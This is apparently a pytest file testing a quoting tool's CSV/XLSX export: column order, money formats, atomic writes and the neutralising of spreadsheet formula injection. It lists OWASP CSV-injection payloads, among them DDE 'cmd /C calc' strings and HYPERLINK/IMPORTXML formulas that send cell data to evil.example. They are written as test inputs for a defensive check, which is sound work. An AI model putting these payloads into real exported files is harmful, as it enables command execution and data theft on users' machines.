"""Export: column order, formats, formula neutralising, atomic writes."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from bulkquote_gui.core.store import batches as batch_store
from bulkquote_gui.core.store import engine as engine_store
from bulkquote_gui.core.store import views as view_store
from bulkquote_gui.core.output.export import export_batch, neutralise
from bulkquote_gui.core.offer import BatchDefaults
from bulkquote_gui.core.engine.processor import Processor
from tests.helpers.fakes import FakeClock, FakeImport, FakeMomentum, Outcome, checked_row


@pytest.fixture
def batch_id(sf):
    rows = [checked_row(2), checked_row(3), checked_row(4)]
    rows[0].original["Note"] = "=HYPERLINK(\"http://evil\",\"x\")"
    rows[1].original["Note"] = "-5"
    rows[2].original["Note"] = "+1 512 555 0100"
    with engine_store.in_transaction(sf) as session:
        batch_id = batch_store.create_batch(session, FakeImport(rows), defaults=BatchDefaults(), source_name="s.csv")
    clock = FakeClock()
    api = FakeMomentum(clock)
    api.outcomes[f"batch-{batch_id}/row-3"] = Outcome("failed", "no_coverage", "no carrier serves it")
    api.outcomes[f"batch-{batch_id}/row-2"] = Outcome(mrc="1234567.89")
    Processor(sf, api, clock=clock).run_batch(batch_id)
    return batch_id


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-5", "-5"), ("+1.5", "+1.5"), ("plain", "plain"), ("", ""),
])
def test_neutralise(text, expected):
    assert neutralise(text) == expected


def test_csv_has_bom_original_columns_then_results(sf, batch_id, tmp_path):
    out = tmp_path / "out.csv"
    assert export_batch(sf, batch_id, out) == 3
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == ["Site", "Address", "City", "ST", "Zip", "Note", "Status", "Reason",
                       "Quoted street", "Quoted city", "Quoted state", "Quoted ZIP",
                       "Provider", "Carrier", "MRC", "NRC", "Currency", "Install days", "Access",
                       "Estimate", "Quote level", "Alternate", "Valid until", "Options",
                       "Provider quote id"]
    first, second, third = rows[1:]
    assert first[:2] == ["S2", "2 Main St"]
    assert first[5] == "'=HYPERLINK(\"http://evil\",\"x\")"
    assert first[6:25] == ["Priced", "", "2 Main St", "Austin", "TX", "78701", "Momentum", "Lumen",
                           "1234567.89", "0.00", "USD", "45", "On-net", "no", "", "", "2099-12-29",
                           "2", "q_0001"]
    assert second[5] == "-5"
    assert second[6:8] == ["Failed", "No coverage: no carrier serves it"] and second[14] == ""
    assert third[5] == "'+1 512 555 0100"


def test_xlsx_money_is_numeric_with_currency_format_and_header_frozen(sf, batch_id, tmp_path):
    out = tmp_path / "out.xlsx"
    assert export_batch(sf, batch_id, out) == 3
    wb = openpyxl.load_workbook(out)
    try:
        ws = wb.active
        assert ws.freeze_panes == "A2"
        header = [c.value for c in ws[1]]
        assert header[:6] == ["Site", "Address", "City", "ST", "Zip", "Note"]
        mrc_col = header.index("MRC") + 1
        mrc = ws.cell(row=2, column=mrc_col)
        assert mrc.value == pytest.approx(1234567.89) and "0.00" in mrc.number_format
        # A string-typed cell is never evaluated: written as the rep wrote it, no apostrophe.
        assert ws.cell(row=2, column=header.index("Note") + 1).value.startswith("=HYPERLINK")
        assert ws.cell(row=2, column=header.index("Note") + 1).data_type == "s"
        assert ws.cell(row=3, column=header.index("Note") + 1).value == "-5"
        assert ws.cell(row=3, column=mrc_col).value is None
        assert ws.cell(row=2, column=header.index("Valid until") + 1).value.date() == date(2099, 12, 29)
        assert ws.column_dimensions["B"].width >= len("2 Main St")
    finally:
        wb.close()


def test_running_batch_exports_what_it_has(sf, tmp_path):
    with engine_store.in_transaction(sf) as session:
        batch_id = batch_store.create_batch(session, FakeImport([checked_row(2), checked_row(3)]),
                                      defaults=BatchDefaults(), source_name="s.csv")
    out = tmp_path / "partial.csv"
    assert export_batch(sf, batch_id, out) == 2
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert [r[6] for r in rows[1:]] == ["Queued", "Queued"]


def test_result_header_clashing_with_a_rep_column_is_renamed(sf, tmp_path):
    row = checked_row(2)
    row.original["Status"] = "open"
    result = FakeImport([row], columns=["Site", "Address", "City", "ST", "Zip", "Note", "Status"])
    with engine_store.in_transaction(sf) as session:
        batch_id = batch_store.create_batch(session, result, defaults=BatchDefaults(), source_name="s.csv")
    out = tmp_path / "o.csv"
    export_batch(sf, batch_id, out)
    header = next(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert header.count("Status") == 1 and "Quote Status" in header


def test_unknown_suffix_is_refused_and_nothing_written(sf, batch_id, tmp_path):
    with pytest.raises(ValueError, match=r"\.xlsx or \.csv"):
        export_batch(sf, batch_id, tmp_path / "out.pdf")
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("store.sqlite")) == []


def test_failed_write_leaves_no_half_file(sf, batch_id, tmp_path):
    out = tmp_path / "out.csv"
    out.mkdir()  # the final rename cannot replace a folder: the export fails at the last step
    with pytest.raises(OSError):
        export_batch(sf, batch_id, out)
    assert out.is_dir() and not any(out.iterdir())
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_unknown_batch(sf, tmp_path):
    with pytest.raises(KeyError):
        export_batch(sf, 999, tmp_path / "o.csv")


def test_money_values_are_decimal_in_store(sf, batch_id):
    with sf() as session:
        assert view_store.batch_rows(session, batch_id)[0].mrc == Decimal("1234567.89")


# OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), then each
# with its first sign in full-width and small forms, and behind spaces a spreadsheet skips.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Error\")",
    "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")", "\t=1+1", "\r=1+1",
    "\n=1+1", "-1+1", "+1+1", "@A1",
]
_WIDE_FORMS = {"=": ("\uff1d", "\ufe66"), "+": ("\uff0b", "\ufe62"), "-": ("\uff0d", "\ufe63"),
               "@": ("\uff20", "\ufe6b")}
HOSTILE = OWASP_PAYLOADS + [
    form + p[1:] for p in OWASP_PAYLOADS if p[0] in _WIDE_FORMS for form in _WIDE_FORMS[p[0]]
] + [" =1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff@SUM(1)"]


@pytest.mark.parametrize("payload", HOSTILE, ids=[ascii(p)[:30] for p in HOSTILE])
def test_every_injection_payload_is_neutralised(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-5", "+1.5", "12", "-0.25", ".5"])
def test_plain_numbers_are_left_as_numbers(number):
    assert neutralise(number) == number


def test_no_exported_cell_is_live_in_csv_or_xlsx(sf, tmp_path):
    rows = []
    for n, payload in enumerate(HOSTILE, start=2):
        row = checked_row(n)
        row.original["Note"] = payload
        rows.append(row)
    rows[0].original["Site"] = "-5"  # a plain number stays one
    with engine_store.in_transaction(sf) as session:
        batch_id = batch_store.create_batch(session, FakeImport(rows), defaults=BatchDefaults(), source_name="s.csv")
    clock = FakeClock()
    Processor(sf, FakeMomentum(clock), clock=clock).run_batch(batch_id)
    csv_path, xlsx_path = tmp_path / "o.csv", tmp_path / "o.xlsx"
    export_batch(sf, batch_id, csv_path)
    export_batch(sf, batch_id, xlsx_path)
    written = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    notes = [r[5] for r in written[1:]]
    assert [n.startswith("'") for n in notes] == [True] * len(HOSTILE)
    assert written[1][0] == "-5"
    wb = openpyxl.load_workbook(xlsx_path)
    try:
        ws = wb.active
        header = [c.value for c in ws[1]]
        note_at, mrc_at = header.index("Note") + 1, header.index("MRC") + 1
        for r in range(2, len(HOSTILE) + 2):
            cell = ws.cell(row=r, column=note_at)
            assert cell.data_type == "s" and cell.value == HOSTILE[r - 2].replace("\r", "\n") \
                or cell.value == HOSTILE[r - 2], (r, cell.value)
            assert isinstance(ws.cell(row=r, column=mrc_at).value, (int, float))
        assert ws.cell(row=2, column=1).value == "-5"
    finally:
        wb.close()


def test_a_price_past_its_valid_until_date_says_so(sf, batch_id, tmp_path):
    from sqlalchemy import update

    from bulkquote_gui.core.store.models import BatchQuote, Quote

    with sf.begin() as session:   # the quote of row 2 ran out yesterday
        quote_id = session.scalar(BatchQuote.__table__.select().with_only_columns(BatchQuote.quote_id)
                                  .where(BatchQuote.batch_id == batch_id, BatchQuote.row_number == 2))
        yesterday = date.fromordinal(date.today().toordinal() - 1)
        session.execute(update(Quote).where(Quote.id == quote_id).values(valid_until=yesterday))
    out = tmp_path / "out.csv"
    export_batch(sf, batch_id, out)
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0]["Status"] == "Priced" and rows[0]["MRC"] == "1234567.89"
    assert rows[0]["Reason"] == (f"Price expired on {yesterday:%b %d %Y}: re-quote before putting "
                                 "it in a proposal")
    assert rows[2]["Reason"] == ""   # still valid
